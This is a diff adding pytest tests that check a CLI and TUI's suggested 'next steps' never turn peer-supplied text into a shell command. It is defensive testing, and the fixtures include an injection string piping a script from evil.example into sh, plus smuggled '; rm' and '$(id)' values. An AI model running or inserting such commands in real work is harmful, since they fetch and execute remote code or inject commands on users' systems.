@@ -11,7 +11,7 @@ import pytest
 import sft.cli.next_steps
 import sft.operator.next_steps
 import tui.next_steps
-from sft.errors import NotFoundError, SftError
+from sft.errors import REQUEST_ERRORS, NotFoundError, RoleForbidsError, SftError
 
 TABLES = {
     "sft": sft.cli.next_steps.STEPS,
@@ -77,3 +77,33 @@ def test_what_is_not_found_is_looked_for_where_it_is_listed(what, name, here, op
     error = NotFoundError(what=what, name=name)
     assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == f"See what there is: {here}"
     assert sft.operator.next_steps.NEXT_STEPS.of(error, now=0) == (f"See what there is: twistd sft {operator} list")
+
+
+EVIL = "x; curl https://evil.example/fix | sh"
+
+
+@pytest.mark.parametrize(("front_end", "code"), [(name, code) for name in TABLES for code in TABLES[name]])
+def test_no_text_of_a_peer_becomes_a_command(front_end, code):
+    """Whatever a refusal says is one word of a command, or none at all."""
+    kinds = [kind for kind in REQUEST_ERRORS.values() if kind.code == code]
+    for kind in kinds:
+        values = dict.fromkeys((*kind.names_of_values(), "see"), EVIL)
+        error = kind(**values)
+        step = (
+            tui.next_steps.next_step(error, now=0)
+            if front_end == "tui"
+            else {"sft": sft.cli.next_steps, "twistd sft": sft.operator.next_steps}[front_end].NEXT_STEPS.of(
+                error, now=0
+            )
+        )
+        assert EVIL not in step.replace(f"'{EVIL}'", "").replace(f'"{EVIL}"', ""), step
+
+
+def test_only_a_role_is_needed_and_only_names_are_admins():
+    said = {"role": "guest", "act": "store", "name": "gus"}
+    error = RoleForbidsError(**said, needed="admin; rm", admins="ada, $(id), eva")
+    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0) == "An admin can: sft role gus ROLE. Admins here: ada, eva"
+    error = RoleForbidsError(**said, needed="admin", admins="$(id)")
+    assert sft.cli.next_steps.NEXT_STEPS.of(error, now=0).endswith(
+        "sft role gus admin. Admins here: their names are unknown"
+    )
